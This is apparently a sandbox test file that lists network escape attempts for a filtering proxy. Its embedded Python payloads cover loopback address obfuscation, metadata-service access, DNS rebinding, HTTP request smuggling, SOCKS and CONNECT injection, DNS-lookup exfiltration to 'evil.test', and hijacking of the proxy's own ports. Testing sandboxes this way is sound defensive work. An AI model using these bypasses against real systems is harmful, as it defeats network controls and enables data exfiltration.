/** Ways out over the network, around the proxy and through it. */
import fs from 'node:fs';
import type { Around, Attempt } from './attempt.ts';

const family = 'network';

/** A socket that the program made itself; the first three descriptors are given to it. */
function holdsSocket(pid: number): string | null {
  try {
    const own = fs
      .readdirSync(`/proc/${pid}/fd`)
      .filter((fd) => Number(fd) > 2)
      .map((fd) => fs.readlinkSync(`/proc/${pid}/fd/${fd}`));
    return own.some((name) => name.startsWith('socket:')) ? 'holds the socket' : null;
  } catch {
    return null;
  }
}

const noPlainProxy = { why: 'without a sandbox there is no proxy' } as const;

/** What arrived at public addresses although the user allowed nothing. */
const sent = ({ world }: Around): readonly string[] =>
  world.internet.map((text) => `sent out: ${JSON.stringify(text.slice(0, 60))}`);

const publicAddress = '93.184.215.14';

interface ProxyAttempt {
  readonly name: string;
  readonly python: string;
  /** Names that the user allows. */
  readonly allows?: readonly string[];
  /** The addresses of each name, one list for each look. */
  readonly names?: Readonly<Record<string, readonly (readonly string[])[]>>;
  readonly after?: Attempt['after'];
  /** Why a user who allows everything changes nothing. */
  readonly never?: string;
}

/** Through the proxy: the user allows only the hosts that are named. */
const throughProxy = ({
  name,
  python,
  allows = [],
  names = {},
  after,
  never,
}: ProxyAttempt): Attempt => ({
  ...{ family: 'network through the proxy', name, python, isAlone: true },
  control: never === undefined ? 'allowed' : { why: never },
  before: ({ app }) => {
    const looks = new Map<string, number>();
    app.asked.splice(0);
    app.around.allows = ({ network }) =>
      network !== undefined && network.addressClass === 'public' && allows.includes(network.host);
    app.around.resolve = (host) => {
      const all = names[host] ?? [];
      const look = looks.get(host) ?? 0;
      looks.set(host, look + 1);
      return all[Math.min(look, all.length - 1)] ?? [];
    };
  },
  after: after ?? sent,
});

const service = `'127.0.0.1:%d' % ports['service']`;

/** Where a yes of the user would change nothing. */
const unreachable: Readonly<Record<string, string>> = {
  'our own MCP port': 'refused even if the user allows everything',
  'our own MCP port by name': 'refused even if the user allows everything',
  'full width digits': 'the parser takes no such bytes, whatever the user says',
  'with a zone': 'refused as no host, whatever the user says',
  'the metadata service': 'nothing answers there on this machine',
  'a private address': 'nothing answers there on this machine',
};

const proxied: readonly ProxyAttempt[] = [
  { name: 'the computer’s loopback, by address', python: `connect(${service})` },
  ...[
    ['decimal', `'2130706433:%d' % ports['service']`],
    ['octal', `'0177.0.0.1:%d' % ports['service']`],
    ['hexadecimal', `'0x7f.1:%d' % ports['service']`],
    ['short', `'127.1:%d' % ports['service']`],
    ['zero', `'0:%d' % ports['service']`],
    ['mapped into IPv6', `'[::ffff:127.0.0.1]:%d' % ports['service']`],
    ['with a zone', `'[::1%%lo]:%d' % ports['service']`],
    ['full width digits', `('１２７.0.0.1:%d' % ports['service']).encode()`],
    ['trailing dot', `'localhost.:%d' % ports['service']`],
    ['a name below localhost', `'x.localhost:%d' % ports['service']`],
    ['our own MCP port', `'127.0.0.1:%d' % ports['mcp']`],
    ['our own MCP port by name', `'localhost:%d' % ports['mcp']`],
    ['the metadata service', `'169.254.169.254:80'`],
    ['a private address', `'10.0.0.1:80'`],
  ].map(([how = '', target = '']) => ({
    name: `an address in another form: ${how}`,
    python: `connect(${target})`,
    names: { 'x.localhost': [['127.0.0.1']], localhost: [['127.0.0.1']] },
    ...(how in unreachable ? { never: unreachable[how] ?? '' } : {}),
  })),
  {
    name: 'a host that nobody allowed',
    python: `connect('evil.test:443')`,
    names: { 'evil.test': [[publicAddress]] },
  },
  {
    name: 'a public name that leads to loopback',
    python: `connect('good.test:%d' % ports['service'])`,
    allows: ['good.test'],
    names: { 'good.test': [['127.0.0.1']] },
  },
  {
    name: 'a name that changes between two looks (rebinding)',
    python: `
for _ in range(4): connect('good.test:%d' % ports['service'])`,
    allows: ['good.test'],
    names: { 'good.test': [[publicAddress], ['127.0.0.1'], [publicAddress], ['127.0.0.1']] },
    after: () => [],
  },
  {
    name: 'a name with a public and a loopback address',
    python: `
for _ in range(3): connect('good.test:%d' % ports['service'])`,
    allows: ['good.test'],
    names: { 'good.test': [['127.0.0.1', publicAddress, '::1']] },
    after: () => [],
  },
  {
    name: 'a name that leads to all addresses of this computer',
    python: `connect('good.test:%d' % ports['all'])`,
    allows: ['good.test'],
    names: { 'good.test': [['0.0.0.0'], ['::']] },
  },
  {
    name: 'another host in the Host header than in the request line',
    python: `proxy(b'GET http://good.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')`,
    allows: ['good.test'],
    names: { 'good.test': [[publicAddress]] },
    after: ({ world }) =>
      world.internet.flatMap((text) => (/^host: evil/im.test(text) ? ['sent the other host'] : [])),
  },
  {
    name: 'a second request behind the first, to another host',
    python: `proxy(b'GET http://good.test/ HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\nGET http://evil.test/x HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')`,
    allows: ['good.test'],
    names: { 'good.test': [[publicAddress]], 'evil.test': [[publicAddress]] },
    after: ({ world }) =>
      world.internet.flatMap((text) => (text.includes('evil') ? ['reached the other host'] : [])),
  },
  {
    name: 'a request hidden in the body of another (smuggling)',
    python: `
hidden = b'GET http://evil.test/y HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'
proxy(b'POST http://good.test/ HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n' + hidden)
proxy(b'POST http://good.test/ HTTP/1.1\\r\\nHost: good.test\\r\\nTransfer-Encoding: xchunked\\r\\nTransfer-Encoding : chunked\\r\\n\\r\\n0\\r\\n\\r\\n' + hidden)
proxy(b'CONNECT evil.test:443 HTTP/1.1\\r\\nContent-Length: 10\\r\\n\\r\\n' + hidden)`,
    allows: ['good.test'],
    names: { 'good.test': [[publicAddress]], 'evil.test': [[publicAddress]] },
    after: ({ world }) =>
      world.internet.flatMap((text) => (text.includes('evil') ? ['reached the other host'] : [])),
  },
  {
    name: 'CONNECT with user names, paths, spaces and line breaks',
    never: 'refused as no host, whatever the user says',
    python: `
for target in (b'good.test@evil.test:443', b'evil.test:443/good.test:443', b'evil.test:443#good.test', b'evil.test\\t:443', b'good.test:443\\r\\nX: evil.test', b'evil.test%2egood.test:443', b'evil.test\\\\good.test:443', b'good.test,evil.test:443', b'evil.test\\x00.good.test:443', b'[evil.test]:443'):
    connect(target)`,
    allows: ['good.test'],
    names: { 'evil.test': [[publicAddress]] },
  },
  {
    name: 'SOCKS5 by name to loopback and to a host that nobody allowed',
    python: `
for host, port in ((b'localhost', ports['service']), (b'127.1', ports['service']), (b'evil.test', 443), (b'127.0.0.1\\x00.good.test', ports['service'])):
    proxy(b'\\x05\\x01\\x00' + b'\\x05\\x01\\x00\\x03' + bytes([len(host)]) + host + struct.pack('>H', port) + b'GET / HTTP/1.0\\r\\n\\r\\n')`,
    allows: ['good.test'],
    names: { localhost: [['127.0.0.1']], 'evil.test': [[publicAddress]] },
  },
  {
    name: 'SOCKS5 by address, mapped into IPv6, and with BIND and UDP',
    python: `
four = socket.inet_aton('127.0.0.1')
for request in (b'\\x05\\x01\\x00\\x01' + four, b'\\x05\\x01\\x00\\x04' + b'\\0' * 10 + b'\\xff\\xff' + four, b'\\x05\\x01\\x00\\x04' + b'\\0' * 12 + four, b'\\x05\\x02\\x00\\x01' + four, b'\\x05\\x03\\x00\\x01' + four):
    proxy(b'\\x05\\x01\\x00' + request + struct.pack('>H', ports['service']) + b'GET / HTTP/1.0\\r\\n\\r\\n')
proxy(b'\\x04\\x01' + struct.pack('>H', ports['service']) + four + b'\\0GET / HTTP/1.0\\r\\n\\r\\n')`,
  },
  {
    name: 'a made-up address of a name that nobody allowed',
    python: `
found = quiet(socket.gethostbyname, 'evil.test')
loot(repr(found))
if found: dial((found, 80), b'GET / HTTP/1.0\\r\\nHost: evil.test\\r\\n\\r\\n'); dial((found, 443), b'x'); dial((found, ports['service']), b'GET / HTTP/1.0\\r\\n\\r\\n')`,
    allows: ['good.test'],
    names: { 'evil.test': [[publicAddress]] },
  },
  {
    name: 'names that are looked up are sent nowhere',
    never: 'no connection is made',
    python: `
for n in range(30): quiet(socket.gethostbyname, 'stolen-%d.evil.test' % n)`,
    after: ({ app }) => app.asked.splice(0).map((one) => `looked up or asked ${one}`),
  },
  {
    name: 'two hundred hosts at once become no flood of asks',
    python: `
def one(n): connect('h%d.evil.test:443' % n)
all = [threading.Thread(target=one, args=(n,)) for n in range(200)]
for t in all: t.start()
for t in all: t.join(20)`,
    after: (around) => [
      ...sent(around),
      ...(around.app.asked.splice(0).length > 40 ? ['more than forty asks'] : []),
    ],
  },
];

const direct: readonly Attempt[] = [
  {
    name: 'TCP to a service on the computer’s loopback',
    python: `dial(('127.0.0.1', ports['service']), b'GET / HTTP/1.0\\r\\n\\r\\n')`,
  },
  {
    name: 'TCP to our own MCP port',
    python: `dial(('127.0.0.1', ports['mcp']), b'GET / HTTP/1.0\\r\\n\\r\\n')`,
    after: ({ world }: Around) => world.lootHas('HTTP/1.1'),
  },
  {
    name: 'UDP to the computer’s loopback',
    python: `
one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
quiet(one.sendto, b'out', ('127.0.0.1', ports['udp'])); time.sleep(0.3)`,
  },
  {
    name: 'TCP by IPv6, mapped addresses and the computer’s own addresses',
    python: `
for host in ('::1', '::ffff:127.0.0.1', '::'): dial((host, ports['all'], 0, 0), b'GET / HTTP/1.0\\r\\n\\r\\n', socket.AF_INET6)
for host in P['addresses'] + ['0.0.0.0', '127.0.0.2']: dial((host, ports['all']), b'GET / HTTP/1.0\\r\\n\\r\\n')`,
  },
  {
    name: 'abstract UNIX sockets',
    python: `
for name in ('/abstract', '/.X11-unix/X77'): dial('\\0' + P['base'] + name, b'x', socket.AF_UNIX)`,
  },
  ...[
    ['raw', 'AF_INET', 'SOCK_RAW'],
    ['packet', 'AF_PACKET', 'SOCK_RAW'],
    ['vsock', 'AF_VSOCK', 'SOCK_STREAM'],
    ['bluetooth', 'AF_BLUETOOTH', 'SOCK_RAW'],
    ['kernel crypto', 'AF_ALG', 'SOCK_SEQPACKET'],
    ['CAN', 'AF_CAN', 'SOCK_RAW'],
  ].map(([name = '', one = '', kind = '']) => ({
    name: `a socket of the kind ${name}`,
    python: `one = socket.socket(socket.${one}, socket.${kind}, ${name === 'raw' ? 1 : 0}); time.sleep(0.4)`,
    whileRunning: holdsSocket,
    control:
      name !== 'vsock'
        ? { why: 'an ordinary user may not open one here, or the kernel has none' }
        : ('plain' as const),
  })),
  {
    name: 'an address or route added over netlink',
    python: `
one = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
one.send(struct.pack('IHHII', 40, 20, 0x605, 1, 0) + struct.pack('BBBBi', 2, 8, 0, 0, 1) + struct.pack('HH4s', 8, 2, socket.inet_aton('10.9.9.9')) + struct.pack('HH4s', 8, 1, socket.inet_aton('10.9.9.9')))
loot(one.recv(4096)); probe = socket.socket(); probe.bind(('10.9.9.9', 0)); put('added', 'x')`,
    after: ({ world }: Around) => world.has('added', 'added an address'),
    control: { why: 'an ordinary user may not do it without a sandbox either' },
  },
  {
    name: 'the proxy’s own listeners replaced',
    python: `
for port in (3128, 53, 80, 443):
    one = socket.socket(); one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    if quiet(lambda: (one.bind(('127.0.0.1', port)), one.listen(), True)): put('took-%d' % port, 'x')`,
    after: ({ world }: Around) =>
      [3128, 53, 80, 443].flatMap((port) => world.has(`took-${port}`, `took port ${port}`)),
    control: noPlainProxy,
  },
].map((one) => ({ control: 'plain' as const, ...one, family }));

export const networkAttempts: readonly Attempt[] = [...direct, ...proxied.map(throughProxy)];
